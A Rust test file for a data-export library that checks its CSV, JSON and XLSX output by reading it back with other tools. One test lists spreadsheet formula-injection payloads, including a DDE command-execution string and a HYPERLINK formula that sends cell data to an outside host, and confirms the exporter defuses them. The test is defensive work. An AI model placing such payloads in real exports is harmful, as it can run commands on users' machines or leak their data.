//! Whole files of each format, read back by readers that are not ours.

use calamine::{Data, Reader};
use jiff::civil::date;
use jiff::tz::TimeZone;
use watchroom_export::{About, Cell, Column, ColumnKind, Done, Format, Writer};

const COLUMNS: &[(&str, ColumnKind)] = &[
    ("bool", ColumnKind::Bool),
    ("int8", ColumnKind::Number),
    ("float8", ColumnKind::Number),
    ("numeric", ColumnKind::Number),
    ("timestamptz", ColumnKind::Time),
    ("date", ColumnKind::Date),
    ("text", ColumnKind::Text),
];

fn file(format: Format, rows: &[[Cell<'_>; 7]]) -> (Vec<u8>, Done) {
    let columns = COLUMNS
        .iter()
        .map(|(name, kind)| Column {
            name: (*name).to_owned(),
            display: format!("The {name}"),
            data_type: (*name).to_owned(),
            kind: *kind,
        })
        .collect();
    let about = About {
        panel: "orders".to_owned(),
        title: "Orders & more".to_owned(),
        facts: vec![("Exported by".to_owned(), "viewer@test.example".to_owned())],
        zone: TimeZone::get("Africa/Johannesburg").expect("a zone"),
        zone_name: "Africa/Johannesburg".to_owned(),
    };
    let mut writer = Writer::begin(format, columns, about).expect("begun");
    let mut bytes = Vec::new();
    for row in rows {
        row.iter().for_each(|cell| writer.cell(*cell));
        writer.end_row().expect("a row");
        bytes.extend(writer.take());
    }
    let (last, done) = writer.finish().expect("done");
    bytes.extend(last);
    (bytes, done)
}

fn rows() -> Vec<[Cell<'static>; 7]> {
    let moment = Cell::Time("2026-03-01T22:30:00.25Z".parse().expect("a moment"));
    vec![
        [
            Cell::Bool(true),
            Cell::Int(42),
            Cell::Float(-0.1),
            Cell::Numeric("1234.5600"),
            moment,
            Cell::Date(date(2026, 3, 1)),
            Cell::Text("plain"),
        ],
        [Cell::Null; 7],
        [
            Cell::Bool(false),
            Cell::Int(9_007_199_254_740_993),
            Cell::Float(f64::NAN),
            Cell::Numeric("-60000000000000.00600000"),
            Cell::Odd("Infinity"),
            Cell::Date(date(1899, 12, 31)),
            Cell::Text("a \"quoted\", text\r\nof two lines <&> _x0041_ \u{7}é😀"),
        ],
    ]
}

#[test]
fn csv_is_read_back_field_by_field() {
    let (bytes, done) = file(Format::Csv { bom: false }, &rows());
    assert_eq!(done, Done { rows: 3, odd: 2, cut: 0 });
    let text = String::from_utf8(bytes.clone()).expect("UTF-8");
    assert!(text.starts_with("The bool,The int8,"), "{text}");
    assert!(text.contains("\r\n,,,,,,\r\n"), "a row of nulls: {text}");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let read: Vec<Vec<String>> =
        reader.records().map(|row| row.expect("a row").iter().map(ToOwned::to_owned).collect()).collect();
    assert_eq!(read[0], ["true", "42", "-0.1", "1234.5600", "2026-03-02T00:30:00.25+02:00", "2026-03-01", "plain"]);
    assert_eq!(
        read[2],
        [
            "false",
            "9007199254740993",
            "NaN",
            "-60000000000000.00600000",
            "Infinity",
            "1899-12-31",
            "a \"quoted\", text\r\nof two lines <&> _x0041_ \u{7}é😀"
        ]
    );
    let (with_mark, _) = file(Format::Csv { bom: true }, &rows());
    assert_eq!(with_mark, [b"\xef\xbb\xbf".as_slice(), &bytes].concat());
}

/// What spreadsheets have been attacked with, and what only looks like it.
#[test]
fn no_text_is_calculated_and_no_number_is_touched() {
    let hostile = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=cmd|' /C calc'!A0",
        " =1+1",
        "\u{feff}=1+1",
        "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
        "＝1+1",
        "－1",
        "＋1",
        "＠x",
        "-",
        "\"=1+1",
    ];
    let harmless = ["1", "a=b", "x-1", "user@example.org", "'=1", "(=1)", "", "é", "2026-03-01"];
    for text in hostile.iter().chain(&harmless) {
        let row = [
            Cell::Null,
            Cell::Int(-1),
            Cell::Float(-1.5),
            Cell::Numeric("-2.50"),
            Cell::Null,
            Cell::Null,
            Cell::Text(text),
        ];
        let (bytes, _) = file(Format::Csv { bom: false }, &[row]);
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let read = reader.records().next().expect("a row").expect("readable");
        assert_eq!((&read[1], &read[2], &read[3]), ("-1", "-1.5", "-2.50"));
        let expected = if hostile.contains(text) { format!("'{text}") } else { (*text).to_owned() };
        assert_eq!(&read[6], expected, "{text:?}");
    }
}

#[test]
fn json_is_read_back_with_its_types() {
    let (bytes, _) = file(Format::Json, &rows());
    let value: serde_json::Value = serde_json::from_slice(&bytes).expect("JSON");
    assert_eq!(value["panel"]["title"], "Orders & more");
    assert_eq!((&value["row_count"], &value["nulled"]), (&3.into(), &2.into()));
    assert_eq!(value["columns"][1], serde_json::json!({"name": "int8", "display": "The int8", "data_type": "int8"}));
    assert_eq!(
        value["rows"][0],
        serde_json::json!([true, 42, -0.1, 1234.56, "2026-03-02T00:30:00.25+02:00", "2026-03-01", "plain"])
    );
    assert_eq!(value["rows"][1], serde_json::json!([null, null, null, null, null, null, null]));
    assert_eq!(value["rows"][2][6], "a \"quoted\", text\r\nof two lines <&> _x0041_ \u{7}é😀");
    assert!(String::from_utf8_lossy(&bytes).contains(",-60000000000000.00600000,"), "every digit");
    let (empty, _) = file(Format::Json, &[]);
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&empty).expect("JSON")["rows"], serde_json::json!([]));
}

#[test]
fn xlsx_is_read_back_with_its_types() {
    let (bytes, done) = file(Format::Xlsx, &rows());
    assert_eq!(done, Done { rows: 3, odd: 2, cut: 0 });
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("a workbook");
    assert_eq!(book.sheet_names(), ["Orders & more", "About"]);
    let range = book.worksheet_range("Orders & more").expect("a sheet");
    let read: Vec<Vec<Data>> = range.rows().map(<[Data]>::to_vec).collect();
    let text = |text: &str| Data::String(text.to_owned());
    assert_eq!(read[0][6], text("The text"));
    assert_eq!(read[1][..4], [Data::Bool(true), Data::Float(42.0), Data::Float(-0.1), Data::Float(1234.56)]);
    let moments: Vec<String> = read[1][4..6]
        .iter()
        .map(|cell| match cell {
            Data::DateTime(moment) => {
                let (year, month, day, hour, minute, second, ms) = moment.to_ymd_hms_milli();
                format!("{year}-{month}-{day} {hour}:{minute}:{second}.{ms}")
            }
            other => panic!("{other:?} is no date"),
        })
        .collect();
    assert_eq!(moments, ["2026-3-2 0:30:0.250", "2026-3-1 0:0:0.0"]);
    assert_eq!(read[1][6], text("plain"));
    assert!(read[2].iter().all(|cell| *cell == Data::Empty), "{:?}", read[2]);
    assert_eq!(
        read[3][..6],
        [
            Data::Bool(false),
            text("9007199254740993"),
            text("NaN"),
            text("-60000000000000.00600000"),
            text("Infinity"),
            text("1899-12-31")
        ]
    );
    let last = read[3][6].to_string();
    assert!(last.starts_with("a \"quoted\", text") && last.ends_with("é😀") && last.contains("<&>"), "{last:?}");
    let about = book.worksheet_range("About").expect("a sheet");
    let told = |name: &str| about.rows().find(|row| row[0] == text(name)).map(|row| row[1].clone());
    assert_eq!(told("Rows"), Some(Data::Float(3.0)));
    assert_eq!(told("Exported by"), Some(text("viewer@test.example")));
    assert_eq!(told("Values NaN or infinite"), Some(Data::Float(2.0)));
}
